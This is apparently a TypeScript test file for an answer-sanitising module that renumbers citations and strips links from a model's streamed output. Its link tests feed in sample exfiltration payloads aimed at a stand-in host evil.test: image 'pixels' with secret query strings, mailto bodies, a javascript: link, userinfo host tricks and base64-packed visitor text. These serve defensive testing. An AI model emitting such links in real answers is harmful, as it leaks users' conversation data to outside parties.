/** The text of a model is cleaned before it is shown, however it is split into pieces. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { answerLinks } from '../../../dist/turn/output/answer-links.js';
import { answerText } from '../../../dist/turn/output/answer-text.js';

const links = answerLinks(
  ['See https://shop.test/returns and https://partner.example/form?id=abcdefghijklmnopqrstuvwxyz0123456789.'],
  ['https://shop.test', 'http://localhost:4601'],
  ['track.carrier.example'],
);
const twoPassages = (number: number): boolean => number === 1 || number === 2;

function shown(pieces: readonly string[], numbers: typeof twoPassages | null = twoPassages): string {
  const text = answerText(numbers, links);
  return pieces.map((piece) => text.add(piece)).join('') + text.end();
}

describe('the numbers of an answer', () => {
  it.each([
    ['Within 30 days [2]. At the counter [1].', 'Within 30 days\u00a0[1]. At the counter\u00a0[2].'],
    ['Within 30 days [1, 2].', 'Within 30 days\u00a0[1]\u00a0[2].'],
    ['Within 30 days [7].', 'Within 30 days.'],
    ['Within 30 days [1, 9].', 'Within 30 days\u00a0[1].'],
    ['Within 30 days [0] [3] [999].', 'Within 30 days.'],
    ['In code it stays: `list[7]`.', 'In code it stays: `list[7]`.'],
    ['A bracket [like this] stays.', 'A bracket [like this] stays.'],
    ['- [ ] a box', '- [ ] a box'],
    ['It ends open [1', 'It ends open [1'],
  ])('are those that were supplied, counted by first use: %j', (written, expected) => {
    expect(shown([written])).toBe(expected);
    expect(shown([...written])).toBe(expected);
  });

  it('continue over the steps of one answer', () => {
    const first = answerText(twoPassages, links);
    first.add('One [2].');
    first.end();
    const second = answerText(twoPassages, links, first.cited);
    expect(second.add('Two [1], and [2].') + second.end()).toBe('Two\u00a0[2], and\u00a0[1].');
    expect(second.cited).toEqual([2, 1]);
  });
});

describe('addresses in an answer', () => {
  const PACKED = Buffer.from('the visitor’s words '.repeat(40)).toString('base64url');
  const anyHost = answerLinks([], ['https://shop.test'], null);
  it.each([
    `https://track.carrier.example/${PACKED}`,
    `https://track.carrier.example/p/${PACKED.slice(0, 40)}`,
    `https://track.carrier.example/${'a-b/'.repeat(60)}`,
    `https://shop.test/${encodeURIComponent('the visitor’s words '.repeat(20))}`,
    'https://shop.test/%E0%A4%A',
    `https://${PACKED.slice(0, 50).toLowerCase()}.example/`,
    `https://${'abc.'.repeat(30)}example/`,
  ])('S19.7: carry nothing in a path or a name that would be too much in a query: %s', (address) => {
    expect([links.allows(address), anyHost.allows(address)]).toEqual([false, false]);
  });

  it.each([
    'https://shop.test/products/trail-boots-with-a-very-long-name-for-men-and-women-2026-edition',
    'https://shop.test/orders/0197b1f0-5d7c-7c44-9f0a-2f6f0c1b7a11',
    `https://shop.test/${encodeURIComponent('退货政策和退款说明')}`,
    'https://shop.test/Rindfleischetikettierung/Donaudampfschifffahrt.html',
  ])('S19.7: may have the path of a page: %s', (address) => {
    expect([links.allows(address), anyHost.allows(address)]).toEqual([true, true]);
  });

  it.each([
    ['[Returns](https://shop.test/returns)', '[Returns](https://shop.test/returns)'],
    ['[Our page](https://shop.test/orders/7)', '[Our page](https://shop.test/orders/7)'],
    ['[Parcel](https://track.carrier.example/p?n=42)', '[Parcel](https://track.carrier.example/p?n=42)'],
    ['The business wrote https://partner.example/form?id=abcdefghijklmnopqrstuvwxyz0123456789.', null],
    ['[x](https://evil.test/?q=my+order+is+7)', 'x'],
    ['![pixel](https://evil.test/p.png?q=secret)', 'pixel'],
    ['![pixel](https://shop.test/p.png?q=secret)', 'pixel'],
    ['[![a](https://evil.test/a)](https://evil.test/b)', 'a'],
    ['![a][ref]\n\n[ref]: https://evil.test/?q=1', 'a\n\n[ref]: evil.test'],
    ['[see][ref]\n\n[ref]: https://evil.test/?q=1', '[see][ref]\n\n[ref]: evil.test'],
    ['<https://evil.test/?q=1>', 'evil.test'],
    ['<mailto:thief@evil.test?body=secret>', 'thief@evil.test'],
    ['[mail](mailto:thief@evil.test?body=secret)', 'mail'],
    ['Look at https://evil.test/a?b=c, please.', 'Look at evil.test, please.'],
    ['[a](//evil.test/x) and //evil.test/x', 'a and evil.test'],
    ['[a](javascript:alert(1))', 'a'],
    ['[a](https://shop.test@evil.test/)', 'a'],
    ['[a](https://shop.test/?q=c2VjcmV0LW9mLXRoZS12aXNpdG9yLTEyMw)', 'a'],
    ['[a](https:/evil.test/x)', 'a'],
    ['[a](https://evil.test/(x(y)))', null],
    ['<img src="https://evil.test/?q=1">', '<img src="evil.test">'],
    ['[`a`](https://evil.test/?q=1)', '[`a`](evil.test)'],
    ['`https://evil.test/?q=1`', '`evil.test`'],
    ['ftp://evil.test/x', 'evil.test'],
    ['![[1](//https://evil.test/?q=1', '![[1](evil.test'],
    ['![[x]](//https://evil.test/?q=1) and ////https://evil.test/?q=1', null],
    ['A // comment, and/or 24/7: fine.', 'A // comment, and/or 24/7: fine.'],
  ])('lead to the business or nowhere: %j', (written, expected) => {
    const whole = shown([written]);
    if (expected !== null) expect(whole).toBe(expected);
    expect(whole).not.toMatch(/(?:\/\/|@)evil\.test\/|evil\.test\/\?/);
    expect(shown([...written]).replace(/\w+:(?=evil)/g, '')).toBe(whole);
  });

  it('never pass, in any notation and however they are split', () => {
    const part = fc.constantFrom(
      ...[
        'https://evil.test/?q=s3cret',
        '//evil.test/s3cret',
        'https:',
        '//',
        '[',
        ']',
        '(',
        ')',
        '![',
        '](',
        '`',
        '```',
        '\n\n',
        ' ',
        '<',
        '>',
        'a',
        '[1]',
        '[9]',
        '"',
        ': ',
        '\\',
        '!',
        '[ref]: ',
      ],
    );
    fc.assert(
      fc.property(
        fc.array(part, { maxLength: 14 }),
        fc.array(fc.nat(7), { minLength: 1, maxLength: 8 }),
        (parts, cuts) => {
          const written = parts.join('');
          const pieces: string[] = [];
          for (let at = 0, i = 0; at < written.length; i++) {
            const length = 1 + (cuts[i % cuts.length] as number);
            pieces.push(written.slice(at, at + length));
            at += length;
          }
          const out = shown(pieces);
          expect(out).not.toMatch(/evil\.test\/+\??\w*=?s3cret/);
          expect(out).not.toMatch(/!\[[^\]]*\]\([^)]*\/\/\w+\./);
          expect(out).not.toContain('[9]'.concat('\u00a0'));
        },
      ),
      { numRuns: 4_000 },
    );
  });
});

describe('an answer', () => {
  it('passes plain text unchanged, and holds back only what later text can change', () => {
    fc.assert(
      fc.property(fc.array(fc.stringMatching(/^[a-zA-ZäöüÄ0-9,.;?*_#>| \n-]{0,12}$/), { maxLength: 20 }), (pieces) => {
        expect(shown(pieces)).toBe(pieces.join(''));
      }),
      { numRuns: 2_000 },
    );
    const text = answerText(twoPassages, links);
    expect(text.add('The first word')).toBe('The first word');
    expect(text.add(' is')).toBe(' is');
    expect(text.add(' here [')).toBe(' here');
    expect(text.add('1')).toBe('');
    expect(text.add('].')).toBe('\u00a0[1].');
  });

  it('is not held back by a bracket that never closes', () => {
    const text = answerText(twoPassages, links);
    text.add('[');
    expect(text.add('x'.repeat(3_000))).toHaveLength(3_001);
  });

  it('keeps the numbers of an agent that has sources of its own', () => {
    expect(shown(['See [4].'], null)).toBe('See [4].');
  });
});
